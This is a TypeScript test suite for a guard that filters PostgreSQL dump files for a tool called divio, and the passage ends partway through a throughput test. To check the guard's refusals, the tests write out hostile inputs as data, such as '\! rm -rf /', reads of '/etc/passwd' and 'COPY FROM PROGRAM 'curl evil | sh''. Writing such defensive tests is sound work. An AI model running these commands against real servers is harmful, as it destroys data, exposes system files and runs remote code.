import { createHash } from 'node:crypto';
import { Readable, Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';

import { describe, expect, it } from 'vitest';

import { InvalidInputError } from '../../src/core/errors.js';
import { createPsqlGuard, PsqlGuard, type PsqlGuardResult } from '../../src/services/project/db/psql-guard.js';

// ---------------------------------------------------------------------------------------------
// helpers

type Outcome = { ok: true; out: Buffer; result: PsqlGuardResult } | { ok: false; error: InvalidInputError };

function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function toBuf(input: string | Buffer): Buffer {
  return Buffer.isBuffer(input) ? input : Buffer.from(input, 'utf8');
}

function splitAt(buf: Buffer, cuts: number[]): Buffer[] {
  const out: Buffer[] = [];
  let from = 0;
  for (const cut of [...cuts, buf.length]) {
    out.push(buf.subarray(from, cut));
    from = cut;
  }
  return out;
}

function randomChunks(buf: Buffer, seed: number, max = 17): Buffer[] {
  const rnd = mulberry32(seed);
  const out: Buffer[] = [];
  for (let i = 0; i < buf.length; ) {
    const n = 1 + Math.floor(rnd() * max);
    out.push(buf.subarray(i, i + n));
    i += n;
  }
  return out;
}

async function guardChunks(chunks: Buffer[]): Promise<Outcome> {
  const guard = createPsqlGuard();
  const out: Buffer[] = [];
  try {
    await pipeline(
      Readable.from(chunks, { objectMode: false }),
      guard,
      new Writable({
        write(chunk: Buffer, _encoding, callback) {
          out.push(chunk);
          callback();
        },
      }),
    );
    return { ok: true, out: Buffer.concat(out), result: guard.result };
  } catch (error) {
    if (!(error instanceof InvalidInputError)) throw error;
    return { ok: false, error };
  }
}

function same(a: Outcome, b: Outcome): boolean {
  if (a.ok !== b.ok) return false;
  if (a.ok && b.ok) return a.out.equals(b.out) && JSON.stringify(a.result) === JSON.stringify(b.result);
  if (!a.ok && !b.ok) return a.error.message === b.error.message;
  return false;
}

function describeOutcome(o: Outcome): string {
  return o.ok ? `ok: ${JSON.stringify(o.out.toString('latin1'))} ${JSON.stringify(o.result)}` : `error: ${o.error.message}`;
}

/**
 * Runs the guard on `input` delivered whole, one byte per chunk, split in two at every position
 * (for small inputs) and in random chunk sizes; all must give the same outcome, which is returned.
 */
async function guardAll(input: string | Buffer): Promise<Outcome> {
  const buf = toBuf(input);
  const whole = await guardChunks([buf]);
  const variants: Buffer[][] = [[...buf].map((b) => Buffer.from([b])), randomChunks(buf, buf.length), randomChunks(buf, 7, 300)];
  if (buf.length <= 400) for (let cut = 1; cut < buf.length; cut++) variants.push(splitAt(buf, [cut]));
  for (const chunks of variants) {
    const other = await guardChunks(chunks);
    if (!same(whole, other)) {
      throw new Error(
        `chunking changed the outcome for ${JSON.stringify(buf.toString('latin1'))} split as ${JSON.stringify(chunks.map((c) => c.length))}:\n  whole: ${describeOutcome(whole)}\n  split: ${describeOutcome(other)}`,
      );
    }
  }
  return whole;
}

async function passes(input: string | Buffer): Promise<{ out: string; result: PsqlGuardResult }> {
  const outcome = await guardAll(input);
  if (!outcome.ok) throw new Error(`expected the input to pass, got: ${outcome.error.message}\ninput: ${JSON.stringify(toBuf(input).toString('latin1'))}`);
  return { out: outcome.out.toString('utf8'), result: outcome.result };
}

async function passesUnchanged(input: string): Promise<PsqlGuardResult> {
  const { out, result } = await passes(input);
  expect(out).toBe(input);
  return result;
}

async function refused(input: string | Buffer): Promise<InvalidInputError> {
  const outcome = await guardAll(input);
  if (outcome.ok) throw new Error(`expected the input to be refused: ${JSON.stringify(toBuf(input).toString('latin1'))}`);
  expect(outcome.error).toBeInstanceOf(InvalidInputError);
  expect(outcome.error.exitCode).toBe(4);
  expect(outcome.error.hint).toBeTruthy();
  return outcome.error;
}

async function refusedMeta(input: string, name: string, line: number): Promise<void> {
  const error = await refused(input);
  expect(error.message).toBe(`the dump contains the psql meta-command \\${name} at line ${line}; divio never runs meta-commands from a dump`);
}

// ---------------------------------------------------------------------------------------------
// a realistic pg_dump (PostgreSQL 17) plain-format dump

const RESTRICT_KEY = '6kQwzE0fYx3aDhBQ1rj8dvTqLjVQ9NG9bTz0t3kTt0bVqJxVgqYc';

const DROPPED_STATEMENTS = [
  'ALTER SCHEMA app OWNER TO app_owner;',
  'ALTER FUNCTION app.slugify(value text) OWNER TO app_owner;',
  'ALTER FUNCTION app.audit() OWNER TO "App Owner";',
  'ALTER TABLE app.article OWNER TO app_owner;',
  'ALTER SEQUENCE app.article_id_seq OWNER TO app_owner;',
  'GRANT USAGE ON SCHEMA app TO reader;',
  'REVOKE ALL ON TABLE app.article FROM PUBLIC;',
  'GRANT SELECT ON TABLE app.article TO reader;',
  'ALTER DEFAULT PRIVILEGES FOR ROLE app_owner IN SCHEMA app GRANT SELECT ON TABLES TO reader;',
];

const PG_DUMP = String.raw`--
-- PostgreSQL database dump
--

\restrict ${RESTRICT_KEY}

-- Dumped from database version 17.6 (Debian 17.6-1.pgdg12+1)
-- Dumped by pg_dump version 17.6 (Debian 17.6-1.pgdg12+1)

SET statement_timeout = 0;
SET lock_timeout = 0;
SET idle_in_transaction_session_timeout = 0;
SET transaction_timeout = 0;
SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;
SELECT pg_catalog.set_config('search_path', '', false);
SET check_function_bodies = false;
SET xmloption = content;
SET client_min_messages = warning;
SET row_security = off;

--
-- Name: app; Type: SCHEMA; Schema: -; Owner: app_owner
--

CREATE SCHEMA app;


ALTER SCHEMA app OWNER TO app_owner;

--
-- Name: slugify(text); Type: FUNCTION; Schema: app; Owner: app_owner
--

CREATE FUNCTION app.slugify(value text) RETURNS text
    LANGUAGE sql IMMUTABLE
    AS $$
  -- keep letters, digits and dashes; \! and \copy in here are only text
  SELECT regexp_replace(lower(value), '[^a-z0-9\-]+', '-', 'g');
$$;


ALTER FUNCTION app.slugify(value text) OWNER TO app_owner;

--
-- Name: audit(); Type: FUNCTION; Schema: app; Owner: App Owner
--

CREATE FUNCTION app.audit() RETURNS trigger
    LANGUAGE plpgsql
    AS $body$
BEGIN
  RAISE NOTICE 'it''s % at C:\temp\', TG_OP;  -- a backslash before a quote: \'
  PERFORM E'\\' || $$ nested $$ || $x$ \! $x$;
  RETURN NEW;
END;
$body$;


ALTER FUNCTION app.audit() OWNER TO "App Owner";

--
-- Name: total(integer, integer); Type: FUNCTION; Schema: app; Owner: app_owner
--

CREATE FUNCTION app.total(a integer, b integer) RETURNS integer
    LANGUAGE sql
    BEGIN ATOMIC
 SELECT (total.a + total.b);
 SELECT CASE WHEN (total.a > 0) THEN 1 ELSE 0 END;
END;

SET default_tablespace = '';

SET default_table_access_method = heap;

--
-- Name: article; Type: TABLE; Schema: app; Owner: app_owner
--

CREATE TABLE app.article (
    id integer NOT NULL,
    title text NOT NULL,
    body text,
    path text DEFAULT 'C:\data'::text,
    "Odd ""name""" text,
    CONSTRAINT title_not_blank CHECK ((title <> ''::text))
);


ALTER TABLE app.article OWNER TO app_owner;

--
-- Name: article_id_seq; Type: SEQUENCE; Schema: app; Owner: app_owner
--

CREATE SEQUENCE app.article_id_seq
    AS integer
    START WITH 1
    INCREMENT BY 1
    NO MINVALUE
    NO MAXVALUE
    CACHE 1;


ALTER SEQUENCE app.article_id_seq OWNER TO app_owner;

--
-- Name: article_id_seq; Type: SEQUENCE OWNED BY; Schema: app; Owner: app_owner
--

ALTER SEQUENCE app.article_id_seq OWNED BY app.article.id;

--
-- Name: article id; Type: DEFAULT; Schema: app; Owner: app_owner
--

ALTER TABLE ONLY app.article ALTER COLUMN id SET DEFAULT nextval('app.article_id_seq'::regclass);


--
-- Data for Name: article; Type: TABLE DATA; Schema: app; Owner: app_owner
--

COPY app.article (id, title, body, path, "Odd ""name""") FROM stdin;
1	Hello	Line one\nLine two	C:\\temp\\	\N
2	Quotes ' and "	\\! not a command	\N	x
3	Tabs\tinside	-- not a comment	/* nor this */	$$
4	\.not the end	\\.	'unterminated	"
\.


--
-- Data for Name: tag; Type: TABLE DATA; Schema: app; Owner: app_owner
--

COPY app.tag (id, name) FROM stdin;
\.


--
-- Name: article_id_seq; Type: SEQUENCE SET; Schema: app; Owner: app_owner
--

SELECT pg_catalog.setval('app.article_id_seq', 4, true);


--
-- Name: article article_pkey; Type: CONSTRAINT; Schema: app; Owner: app_owner
--

ALTER TABLE ONLY app.article
    ADD CONSTRAINT article_pkey PRIMARY KEY (id);


--
-- Name: article article_audit; Type: TRIGGER; Schema: app; Owner: app_owner
--

CREATE TRIGGER article_audit AFTER INSERT ON app.article FOR EACH ROW EXECUTE FUNCTION app.audit();


--
-- Name: SCHEMA app; Type: ACL; Schema: -; Owner: app_owner
--

GRANT USAGE ON SCHEMA app TO reader;


--
-- Name: TABLE article; Type: ACL; Schema: app; Owner: app_owner
--

REVOKE ALL ON TABLE app.article FROM PUBLIC;
GRANT SELECT ON TABLE app.article TO reader;


--
-- Name: DEFAULT PRIVILEGES FOR TABLES; Type: DEFAULT ACL; Schema: app; Owner: app_owner
--

ALTER DEFAULT PRIVILEGES FOR ROLE app_owner IN SCHEMA app GRANT SELECT ON TABLES TO reader;


--
-- PostgreSQL database dump complete
--

\unrestrict ${RESTRICT_KEY}

`;

function expectedPgDumpOutput(dump: string, newline = '\n'): string {
  let expected = dump
    .replace(`\\restrict ${RESTRICT_KEY}${newline}`, '')
    .replace(`\\unrestrict ${RESTRICT_KEY}${newline}`, '');
  for (const statement of DROPPED_STATEMENTS) {
    expect(expected).toContain(statement);
    expected = expected.replace(statement, '');
  }
  return expected;
}

const CLOSING = '-- PostgreSQL database dump complete';

// ---------------------------------------------------------------------------------------------

describe('psql guard: pg_dump output', () => {
  it('passes a real-looking pg_dump file, dropping ownership, privileges and \\restrict lines', async () => {
    const { out, result } = await passes(PG_DUMP);
    expect(out).toBe(expectedPgDumpOutput(PG_DUMP));
    expect(result).toEqual({
      pgDump: true,
      complete: true,
      droppedStatements: DROPPED_STATEMENTS.length,
      droppedMetaCommands: 2,
      lines: PG_DUMP.split('\n').length - 1,
    });
    // COPY data went through byte for byte
    expect(out).toContain('4\t\\.not the end\t\\\\.\t\'unterminated\t"\n\\.\n');
  });

  it('gives the same outcome for every way of cutting the input into two chunks', async () => {
    const buf = Buffer.from(PG_DUMP);
    const whole = await guardChunks([buf]);
    expect(whole.ok).toBe(true);
    for (let cut = 1; cut < buf.length; cut++) {
      const split = await guardChunks(splitAt(buf, [cut]));
      if (!same(whole, split)) throw new Error(`split at ${cut} changed the outcome: ${describeOutcome(split)}`);
    }
  });

  it('gives the same outcome for random chunkings and one byte per chunk', async () => {
    const buf = Buffer.from(PG_DUMP);
    const whole = await guardChunks([buf]);
    for (let seed = 1; seed <= 30; seed++) expect(same(whole, await guardChunks(randomChunks(buf, seed, 1 + seed * 13)))).toBe(true);
    expect(same(whole, await guardChunks([...buf].map((b) => Buffer.from([b]))))).toBe(true);
  });

  it('passes the same dump with CRLF line endings', async () => {
    const crlf = PG_DUMP.replace(/\n/g, '\r\n');
    const { out, result } = await passes(crlf);
    expect(out).toBe(expectedPgDumpOutput(crlf, '\r\n'));
    expect(result).toMatchObject({ pgDump: true, complete: true, droppedStatements: DROPPED_STATEMENTS.length, droppedMetaCommands: 2 });
  });

  it('passes pg_dump output of older versions (no \\restrict) and strips a UTF-8 BOM', async () => {
    const old = PG_DUMP.replace(`\\restrict ${RESTRICT_KEY}\n`, '').replace(`\\unrestrict ${RESTRICT_KEY}\n`, '');
    const { out, result } = await passes(`\uFEFF${old}`);
    expect(out).toBe(expectedPgDumpOutput(old));
    expect(result).toMatchObject({ pgDump: true, complete: true, droppedMetaCommands: 0 });
  });

  it('refuses the dump cut off at any point before its closing line', async () => {
    const buf = Buffer.from(PG_DUMP);
    const headerEnd = PG_DUMP.indexOf('--\n', 3) + 3;
    const closingEnd = PG_DUMP.indexOf(CLOSING) + CLOSING.length;
    const reasons = new Set<string>();
    for (let cut = headerEnd; cut < closingEnd; cut++) {
      const outcome = await guardChunks(randomChunks(buf.subarray(0, cut), cut, 64));
      if (outcome.ok) throw new Error(`the dump cut at ${cut} passed: ...${JSON.stringify(PG_DUMP.slice(cut - 40, cut))}`);
      expect(outcome.error.message).toMatch(/^the dump is incomplete: /);
      reasons.add(outcome.error.message.replace(/\$[a-z]*\$/, '$tag$'));
    }
    expect([...reasons].sort()).toEqual(
      [
        'the dump is incomplete: it ends in the middle of a statement (the file was cut off?)',
        'the dump is incomplete: it ends inside a COPY data block (no closing \\. line) (the file was cut off?)',
        'the dump is incomplete: it ends inside a dollar-quoted string ($tag$) (the file was cut off?)',
        'the dump is incomplete: it ends inside a quoted identifier (the file was cut off?)',
        'the dump is incomplete: it ends inside a quoted string (the file was cut off?)',
        'the dump is incomplete: it ends right after a COPY ... FROM stdin statement, before its data (the file was cut off?)',
        "the dump is incomplete: it starts like pg_dump output but lacks its closing '-- PostgreSQL database dump complete' line (the file was cut off?)",
      ].sort(),
    );
    // once the closing line is there, the rest is optional
    for (const cut of [closingEnd, closingEnd + 1, closingEnd + 4, buf.length - 2]) {
      const outcome = await guardChunks([buf.subarray(0, cut)]);
      expect(outcome.ok).toBe(true);
    }
  });

  it('refuses specific truncations with a clear message', async () => {
    const at = (marker: string) => PG_DUMP.slice(0, PG_DUMP.indexOf(marker) + marker.length);
    expect((await refused(at('4\t\\.not the'))).message).toBe(
      'the dump is incomplete: it ends inside a COPY data block (no closing \\. line) (the file was cut off?)',
    );
    expect((await refused(at("RAISE NOTICE 'it''s"))).message).toBe(
      'the dump is incomplete: it ends inside a dollar-quoted string ($body$) (the file was cut off?)',
    );
    expect((await refused(at('GRANT SELECT ON TABLE app.article TO reader;\n'))).message).toBe(
      "the dump is incomplete: it starts like pg_dump output but lacks its closing '-- PostgreSQL database dump complete' line (the file was cut off?)",
    );
    const error = await refused(at('CREATE TABLE app.article (\n'));
    expect(error.message).toBe('the dump is incomplete: it ends in the middle of a statement (the file was cut off?)');
    expect(error.hint).toMatch(/complete copy/);
  });

  it('a closing line inside a string or a COPY block does not count', async () => {
    const header = '--\n-- PostgreSQL database dump\n--\n\n';
    await refused(`${header}SELECT '\n${CLOSING}\n';\n`);
    await refused(`${header}COPY t (a) FROM stdin;\n${CLOSING}\n\\.\n`);
    await refused(`${header}SELECT 1;\n${CLOSING}\n--\n\nSELECT 2;\n`);
    const { result } = await passes(`${header}SELECT 1;\n${CLOSING}\n--\n\n`);
    expect(result).toMatchObject({ pgDump: true, complete: true });
  });

  it('refuses a pg_dumpall cluster dump', async () => {
    const error = await refused('--\n-- PostgreSQL database cluster dump\n--\n\nCREATE ROLE app;\n\\connect template1\n');
    expect(error.message).toMatch(/pg_dumpall cluster dump/);
  });
});

describe('psql guard: hand-written SQL', () => {
  it('passes a file without the pg_dump header and needs no closing line', async () => {
    const sql = "-- my seed data\nCREATE TABLE t (a int, b text);\nINSERT INTO t VALUES (1, 'x'), (2, E'it\\'s');\n";
    const result = await passesUnchanged(sql);
    expect(result).toEqual({ pgDump: false, complete: false, droppedStatements: 0, droppedMetaCommands: 0, lines: 3 });
  });

  it('lets psql judge an unterminated string, comment or COPY in a hand-written file', async () => {
    await passesUnchanged("SELECT 'oops;\n");
    await passesUnchanged('SELECT 1; /* unterminated\n');
    await passesUnchanged('COPY t (a) FROM stdin;\n1\n2\n');
    await passesUnchanged('SELECT 1');
  });

  it('counts lines', async () => {
    expect((await passes('')).result.lines).toBe(0);
    expect((await passes('SELECT 1;')).result.lines).toBe(1);
    expect((await passes('SELECT 1;\n')).result.lines).toBe(1);
    expect((await passes('SELECT 1;\n\nSELECT 2;')).result.lines).toBe(3);
  });
});

describe('psql guard: meta-commands are refused wherever psql would run them', () => {
  it.each([
    ['\\! id\n', '!', 1],
    ['SELECT 1;\n\\! rm -rf /\n', '!', 2],
    ['SELECT 1; \\! rm -rf /\n', '!', 1],
    ['SELECT 1 \\gexec\n', 'gexec', 1],
    ["\\copy t from '/etc/passwd'\n", 'copy', 1],
    ['\\o /tmp/out\n', 'o', 1],
    ['\\i /etc/passwd\n', 'i', 1],
    ['\\ir x.sql\n', 'ir', 1],
    ['\\set ON_ERROR_STOP 0\n', 'set', 1],
    ['\\unset ON_ERROR_STOP\n', 'unset', 1],
    ['SELECT 1 \\\\ \\! id\n', '\\', 1],
    ['SELECT 1 \\; SELECT 2;\n', ';', 1],
    ['\\q\n', 'q', 1],
    ['\\.\n', '.', 1],
    ['SELECT 1; \\', '', 1],
    ['SELECT x\\! id\n', '!', 1],
    ['SELECT 1;\n  \\connect other\n', 'connect', 2],
    ['SELECT 1; \\connect other\n', 'connect', 1],
    ['SELECT 1\n\\c other\n', 'c', 2],
    ['SELECT (1,\n\\restrict k\n2);\n', 'restrict', 2],
    ['/* a comment */ \\! id\n', '!', 1],
    ['/* nested /* comment */ still */ \\! id\n', '!', 1],
    ['-- a comment\r\\! id\n', '!', 1],
    ['SELECT $$body$$ \\! id\n', '!', 1],
    ['SELECT $a$ $b$ $a$ \\! id\n', '!', 1],
    ['SELECT a$b$ \\! id $b$;\n', '!', 1],
    ['SELECT $1$ \\! id $$;\n', '!', 1],
    ['SELECT "ident" \\! id\n', '!', 1],
    ["SELECT 'a' \\! id\n", '!', 1],
    ["SELECT 'a\\' \\! id;\n", '!', 1],
    ["SELECT E'a\\\\' \\! id;\n", '!', 1],
    ["SELECT E'a'\n'\\' ; \\! id ; ';\n", '!', 2],
    ["SELECT 'a'\r'\\' \\! id';\n", '!', 1],
    ["SELECT 'a' \r\n'\\' ; \\! id ; ';\n", '!', 2],
    ["SELECT U&'\\' \\! id;\n", '!', 1],
    ["SELECT B'\\' \\! id;\n", '!', 1],
    ["SELECT x'\\' \\! id;\n", '!', 1],
    ["SELECT :'var' \\! id\n", '!', 1],
    ['SELECT :x \\! id\n', '!', 1],
    ["COPY t TO stdout;\n\\.\n", '.', 2],
    ['COPY t FROM stdin;\n1\n\\.\n\\! id\n', '!', 4],
    ['COPY t FROM stdin;\n1\n\\.\r\n\\! id\n', '!', 4],
    ["COPY t FROM '/tmp/file';\n\\N\n", 'N', 2],
    ["SELECT 'COPY t FROM stdin;'\n;\n\\N\n", 'N', 3],
    ['xCOPY t FROM stdin;\n\\N\n', 'N', 2],
    ['COPY t FROM stdin\n\\N\n', 'N', 2],
    ['-- COPY t FROM stdin;\n\\N\n', 'N', 2],
  ])('%j → \\%s at line %i', async (input, name, line) => {
    await refusedMeta(input, name, line);
  });

  it("finds a meta-command that only a standard_conforming_strings=off reading exposes ('a\\'')", async () => {
    // standard strings: 'a\'' is a\ followed by a doubled quote, so the string continues;
    // with backslash escapes: 'a\'' is a' and the \! is outside.
    const error = await refused("SET standard_conforming_strings = off;\nSELECT 'a\\''; \\! id ; ';\n");
    expect(error.message).toBe('the dump contains the psql meta-command \\! at line 2; divio never runs meta-commands from a dump');
    expect(error.hint).toMatch(/standard_conforming_strings is off/);
  });

  it("finds a meta-command that only a standard_conforming_strings=on reading exposes ('a\\' ...)", async () => {
    await refusedMeta("SELECT 'a\\' ; \\! id ; ';\n", '!', 1);
  });

  it('finds a meta-command that needs the setting switched between lines (psql rereads it per line)', async () => {
    // Checked against psql 15: line 1 runs with standard strings and switches them off; line 2 is
    // then read with escapes, so \echo runs. Neither a pure "on" nor a pure "off" reading finds it:
    // "on" sees '\' x' as '\' + x + an open string; "off" is still inside $$ from line 1.
    await refusedMeta(
      "SELECT set_config('standard_conforming_strings', 'off', false), 'a\\', '$$';\nSELECT '\\' x'; \\echo MARK\n",
      'echo',
      2,
    );
  });

  it('does not mistake E-strings, dollar quotes, comments and identifiers for meta-commands', async () => {
    await passesUnchanged("SELECT E'\\\\! not a command', E'a\\' ; \\! still inside';\n");
    await passesUnchanged("SELECT E'\\'' || '\\\\!';\n");
    await passesUnchanged('SELECT $$ \\! id $$, $tag$ \\copy $$ \\o $tag$;\n');
    await passesUnchanged('SELECT $a$ $b$ \\! $a$;\n');
    await passesUnchanged('-- \\! id\nSELECT 1; -- \\o x\n/* \\! id /* \\i nested */ \\q */ SELECT 2;\n');
    await passesUnchanged('SELECT "\\!", "a""\\!""";\n');
    await passesUnchanged("SELECT 'C:\\temp', '\\\\', '\\d+';\n");
    await passesUnchanged("SELECT :a$$ \\! $$;\n");
    await passesUnchanged("SELECT E'a'\r'\\' \\! id';\n");
  });

  it('passes COPY data with backslashes untouched, including FROM STDOUT and several blocks on one line', async () => {
    const data = '1\t\\N\t\\\\! x\t\\t\n\\! id\n\\\\.\n\\.x\n \\.\n';
    await passesUnchanged(`COPY t (a, b, c, d) FROM stdin;\n${data}\\.\n`);
    await passesUnchanged(`COPY t FROM STDIN WITH (FORMAT csv);\n"a\\",b\n\\.\n`);
    await passesUnchanged(`copy t from stdout;\n${data}\\.\n`);
    await passesUnchanged(`/* c */ -- d\n  COPY t FROM stdin; SELECT 1;\n${data}\\.\nSELECT 2;\n`);
    await passesUnchanged(`COPY a FROM stdin; COPY b FROM stdin;\n${data}\\.\n${data}\\.\nSELECT 3;\n`);
    await passesUnchanged(`COPY t FROM stdin; SELECT '\n\\! a\n\\.\n';\n`);
    await passesUnchanged(`COPY t FROM stdin;\r\n${data.replace(/\n/g, '\r\n')}\\.\r\n`);
  });

  it('reports the first problem in the input, whichever reading finds it', async () => {
    // The standard-strings reading first stumbles at line 3; the escape-strings reading at line 2.
    await refusedMeta("SET standard_conforming_strings = off;\nSELECT 'a\\''; \\! first ; ';\n\\! second\n", '!', 2);
    await refusedMeta("SELECT 'a\\''; \\gset ; ';\nSELECT 1;\n\\! second\n", 'gset', 1);
  });

  it('refuses COPY ... PROGRAM', async () => {
    for (const [sql, line] of [
      ["COPY t FROM PROGRAM 'curl evil | sh';\n", 1],
      ["COPY t TO PROGRAM 'cat > /tmp/x';\n", 1],
      ["SELECT 1;\nCOPY (SELECT 1) TO program 'id';\n", 2],
      ["copy t (a) from\n  program 'id' WITH (FORMAT csv);\n", 2],
    ] as const) {
      const error = await refused(sql);
      expect(error.message).toBe(`the dump runs a shell command on the database server (COPY ... PROGRAM) at line ${line}; divio refuses it`);
    }
    await passesUnchanged("COPY t FROM '/tmp/program';\nSELECT 'COPY t FROM PROGRAM x';\n");
  });

  it('refuses NUL bytes, which make psql drop the rest of a line', async () => {
    const error = await refused(Buffer.from("SELECT 1;\nSELECT '\0'; \\! id\n", 'latin1'));
    expect(error.message).toBe('the dump contains a NUL byte at line 2; plain SQL never does');
  });

  it('refuses SQL that psql versions lex differently', async () => {
    for (const sql of [
      "SELECT 1e'\\' ; \\! id ; ';\n",
      "SELECT 0x'ff';\n",
      "SELECT 1.e'x';\n",
      "SELECT $1e'x';\n",
      "SELECT 1u&'x';\n",
      'SELECT 1e--x\n',
      "SELECT 'a'\v\n'b';\n",
      'SELECT 1e1$$ \\! id $$;\n',
      'SELECT 1.5e-3$x$;\n',
    ]) {
      expect((await refused(sql)).message).toMatch(/that psql versions lex differently/);
    }
    await passesUnchanged("SELECT 1e5, 1.5e-3, 1 'x', 1n'x', 1..2, x.e'y', 1e+'z', 1$$ \\! $$, 1.5$$ \\! $$, 1e$$, 0x1F$$, 1_000$$;\n");
  });

  it('passes non-ASCII text anywhere', async () => {
    await passesUnchanged("SELECT * FROM café;\nSELECT 'café', '日本語', E'é\\n', \"名前\"; -- été;\nCOPY t FROM stdin;\n日本\t\\N\n\\.\n");
  });
});

describe('psql guard: allowed meta-commands and dropped statements', () => {
  it('drops \\restrict, \\unrestrict, \\connect and \\c lines at the start of a line', async () => {
    const { out, result } = await passes('\\restrict abc\nSELECT 1;\n\\connect mydb\n\\c other\n\\connect -reuse-previous=on "dbname=\'x\'"\n\\unrestrict abc');
    expect(out).toBe('SELECT 1;\n');
    expect(result.droppedMetaCommands).toBe(5);
  });

  it('drops statements that act outside the target database', async () => {
    const sql = [
      "CREATE DATABASE mydb WITH TEMPLATE = template0 ENCODING = 'UTF8' LOCALE = 'en_US.utf8';",
      'ALTER DATABASE mydb OWNER TO postgres;',
      "ALTER DATABASE mydb SET search_path TO 'app', 'public';",
      'DROP DATABASE IF EXISTS mydb;',
      "COMMENT ON DATABASE mydb IS 'the; database';",
      "ALTER ROLE app IN DATABASE mydb SET work_mem TO '8MB';",
    ];
    const { out, result } = await passes(`${sql.join('\n')}\nSELECT 1;\n`);
    expect(out).toBe(`${'\n'.repeat(sql.length)}SELECT 1;\n`);
    expect(result.droppedStatements).toBe(sql.length);
  });

  it('drops what pg_dump --create adds', async () => {
    const dump = [
      '--',
      '-- PostgreSQL database dump',
      '--',
      '',
      'SET statement_timeout = 0;',
      '',
      "CREATE DATABASE shop WITH TEMPLATE = template0 ENCODING = 'UTF8' LOCALE_PROVIDER = libc LOCALE = 'C.UTF-8';",
      '',
      '',
      'ALTER DATABASE shop OWNER TO shop_owner;',
      '',
      '\\connect shop',
      '',
      'SET statement_timeout = 0;',
      'CREATE TABLE public.t (a integer);',
      '',
      '--',
      `${CLOSING}`,
      '--',
      '',
    ].join('\n');
    const { out, result } = await passes(dump);
    expect(out).not.toMatch(/DATABASE|connect/);
    expect(out).toContain('CREATE TABLE public.t (a integer);');
    expect(result).toMatchObject({ pgDump: true, complete: true, droppedStatements: 2, droppedMetaCommands: 1 });
  });

  it('lets COPY data through even inside a statement that is dropped', async () => {
    // psql reads the data right after the COPY line and the GRANT around it afterwards.
    const { out, result } = await passes('COPY t FROM stdin; GRANT ALL\n1\t\\N\n\\.\nON t TO x;\nSELECT 1;\n');
    expect(out).toBe('COPY t FROM stdin; \n1\t\\N\n\\.\n\nSELECT 1;\n');
    expect(result.droppedStatements).toBe(1);
    const two = await passes('COPY a FROM stdin; COPY b FROM stdin; REVOKE ALL\n1\n\\.\n2\n\\.\nON t FROM x;\n');
    expect(two.out).toBe('COPY a FROM stdin; COPY b FROM stdin; \n1\n\\.\n2\n\\.\n\n');
  });

  it('drops ownership and privilege statements like pg_restore --no-owner --no-acl', async () => {
    const dropped = [
      'ALTER TABLE public.t OWNER TO bob;',
      'ALTER TABLE ONLY public."T" OWNER TO "Bob Smith";',
      'ALTER FUNCTION public.f(a integer, b text DEFAULT \'x;y\') OWNER TO bob;',
      'ALTER TYPE public.mood OWNER TO CURRENT_USER;',
      'GRANT ALL ON SCHEMA public TO app;',
      'REVOKE ALL\n    ON TABLE public.t\n    FROM PUBLIC;',
      'grant select on all tables in schema public to reader;',
      'ALTER DEFAULT PRIVILEGES FOR ROLE bob GRANT ALL ON TABLES TO app;',
      "SET SESSION AUTHORIZATION 'bob';",
      'RESET SESSION AUTHORIZATION;',
      '/* leading comment */ GRANT x TO y;',
    ];
    const kept = [
      'ALTER TABLE public.t ADD COLUMN owner text;',
      "ALTER TABLE public.t ALTER COLUMN note SET DEFAULT 'OWNER TO x';",
      'ALTER TABLE public.t RENAME COLUMN owner TO proprietor;',
      'CREATE TABLE owner (x int);',
      "COMMENT ON TABLE public.t IS 'GRANT ALL';",
      "SELECT 'GRANT', $$ ALTER TABLE t OWNER TO x; $$;",
      'SET session_replication_role = replica;',
      'SET search_path = public;',
      "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ GRANT ALL ON t TO x; $$;",
    ];
    const input = [...dropped, ...kept].join('\n') + '\n';
    const { out, result } = await passes(input);
    expect(out).toBe(`${'\n'.repeat(dropped.length - 1)}/* leading comment */ \n${kept.join('\n')}\n`);
    expect(result.droppedStatements).toBe(dropped.length);
  });

  it('drops a statement whose ALTER ... OWNER TO spans several chunks and lines', async () => {
    const args = Array.from({ length: 40 }, (_, k) => `a${k} integer`).join(', ');
    const { out, result } = await passes(`SELECT 1;\nALTER FUNCTION public.f(${args})\n    OWNER TO bob;\nSELECT 2;\n`);
    expect(out).toBe('SELECT 1;\n\nSELECT 2;\n');
    expect(result.droppedStatements).toBe(1);
  });

  it('keeps a very long ALTER statement it cannot classify within 4 KiB', async () => {
    const long = `ALTER TABLE t ADD CONSTRAINT c CHECK (x IN (${Array.from({ length: 2000 }, (_, k) => k).join(', ')}));\n`;
    const out = await guardChunks(randomChunks(Buffer.from(long), 3, 500));
    expect(out.ok && out.out.toString()).toBe(long);
  });

  it('refuses a statement whose first keywords are too far apart to classify', async () => {
    const error = await refused(`DROP /* ${'x'.repeat(600)} */ DATABASE other;\n`);
    expect(error.message).toMatch(/first words are more than 512 bytes apart/);
  });
});

describe('psql guard: throughput', () => {
  it('streams ~50 MB of pg_dump-shaped data (mostly COPY) correctly', async () => {
    const header = Buffer.from('--\n-- PostgreSQL database dump\n--\n\nSET standard_conforming_strings = on;\n');
    const footer = Buffer.from(`\n--\n${CLOSING}\n--\n\n`);
    const chunks: Buffer[] = [header];
    let size = header.length;
    let table = 0;
    while (size < 50_000_000) {
      const rows = [`\nCOPY public.t${table} (id, name, note, created) FROM stdin;\n`];
      for (let r = 0; r < 20_000; r++) {
        rows.push(`${r}\tname ${r} with a \\t tab and a \\\\ backslash\t${r % 3 === 0 ? '\\N' : `note ${'x'.repeat(r % 50)}`}\t2024-01-0${(r % 9) + 1} 12:00:00+00\n`);
      }
      rows.push('\\.\n');
      const block = Buffer.from(rows.join(''));
      for (let i = 0; i < block.length; i += 65_536) chunks.push(block.subarray(i, i + 65_536));
      size += block.length;
      table++;
    }
    chunks.push(footer);
    size += footer.length;

    const guard = new PsqlGuard();
    const outHash = createHash('sha256');
    let outBytes = 0;
    const started = performance.now();
    await pipeline(
      Readable.from(chunks, { objectMode: false }),
      guard,
      new Writable({
        write(chunk: Buffer, _encoding, callback) {
          outHash.update(chunk);
          outBytes += chunk.length;
          callback();
        },
      }),
    );
    const seconds = (performance.now() - started) / 1000;
